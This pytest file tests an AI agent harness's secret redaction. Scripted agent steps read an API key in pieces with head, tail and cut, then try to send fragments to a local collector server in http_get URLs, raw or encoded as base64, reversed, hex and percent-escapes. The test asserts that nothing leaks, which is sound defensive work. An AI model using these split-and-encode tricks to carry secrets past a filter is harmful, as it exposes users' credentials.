"""A secret in pieces is still the secret: no fragment of 8 or more characters of the key reaches
the model, a file in the home, the output, or (in an http_get URL) a collector."""

from __future__ import annotations

import base64
import http.server
import subprocess
import threading
from pathlib import Path

import pytest

from agent.secrets import REDACTED
from tests.helpers import leaked_pieces, make_home, run_agent_process, write_script

KEY = "sk-live-7Hq2ZxP9wLm4Rt8Vb3Nc6Ys1KdJ0Fg5A"
TOKEN = "dpl-Qm3Wx8Ez5Rt2Yu7Io4Pa9Sd"


def _home(tmp_path: Path, config: str = "") -> Path:
    home = make_home(tmp_path, "shell_allowlist: [head, tail, cut, cat]\nsecret_env: [DEPLOY_TOKEN]\n" + config)
    (home / "workspace" / "keys.txt").write_text(f"{KEY}\n{TOKEN}\n")
    return home


def _run(home: Path, replies: list) -> subprocess.CompletedProcess:
    script = write_script(home.parent, replies)
    env = {"OPENAI_API_KEY": KEY, "DEPLOY_TOKEN": TOKEN}
    return run_agent_process(
        "run", "--home", str(home), "--model", f"scripted:{script}", "--json", env=env, timeout=120
    )


def _home_text(home: Path) -> str:
    return "\n".join(
        p.read_text(errors="replace")
        for p in home.rglob("*")
        if p.is_file() and "workspace" not in p.relative_to(home).parts
    )


@pytest.mark.parametrize(
    "commands",
    [
        ["head -c 20 keys.txt", "tail -c +21 keys.txt"],  # the reproduction: two halves
        ["cut -c 1-9 keys.txt", "cut -c 10-18 keys.txt", "cut -c 19-40 keys.txt"],  # three pieces, each 9+
        ["cut -c 6-17 keys.txt", "tail -c 19 keys.txt"],  # a middle piece; the token's end
    ],
    ids=["head-tail", "three-cuts", "middle-and-token-end"],
)
def test_no_fragment_of_a_secret_reaches_the_state_log_transcript_or_output(tmp_path, commands):
    home = _home(tmp_path)
    replies = [{"tool": "shell", "args": {"command": c}} for c in commands]
    result = _run(home, [*replies, {"tool": "done", "args": {"summary": "read it"}}])
    assert result.returncode == 0, result.stderr
    assert not leaked_pieces(_home_text(home) + result.stdout + result.stderr, KEY, TOKEN)
    assert REDACTED in (home / "scratchpad" / "active.yaml").read_text()


class _Collector(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802
        type(self).seen.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args):
        pass


@pytest.fixture
def collector():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Collector)
    _Collector.seen = []
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{srv.server_port}"
    srv.shutdown()
    srv.server_close()


@pytest.mark.parametrize(
    "pieces",
    [
        [KEY[:20], KEY[20:]],  # the reproduction
        [base64.b64encode(KEY[3:15].encode()).decode(), KEY[::-1][:10]],  # base64 of a piece; a reversed piece
        [
            KEY[8:20].encode().hex().upper(),
            "%" + "%".join(f"{b:02x}" for b in KEY[:9].encode()),
        ],  # hex; every byte encoded
    ],
    ids=["halves", "base64-reversed", "hex-percent"],
)
def test_http_get_refuses_a_url_carrying_a_fragment_and_sends_nothing(tmp_path, collector, pieces):
    home = _home(tmp_path, "http_allow_networks: [127.0.0.0/8]\n")
    replies = [{"tool": "http_get", "args": {"url": f"{collector}/c?x={piece}"}} for piece in pieces]
    result = _run(
        home,
        [
            *replies,
            {"tool": "http_get", "args": {"url": f"{collector}/fine"}},
            {"tool": "done", "args": {"summary": "sent"}},
        ],
    )
    assert result.returncode == 0, result.stderr
    assert _Collector.seen == ["/fine"]  # the server saw only the clean call
    assert (home / "scratchpad" / "active.yaml").read_text().count("the URL carried a secret") == len(pieces)
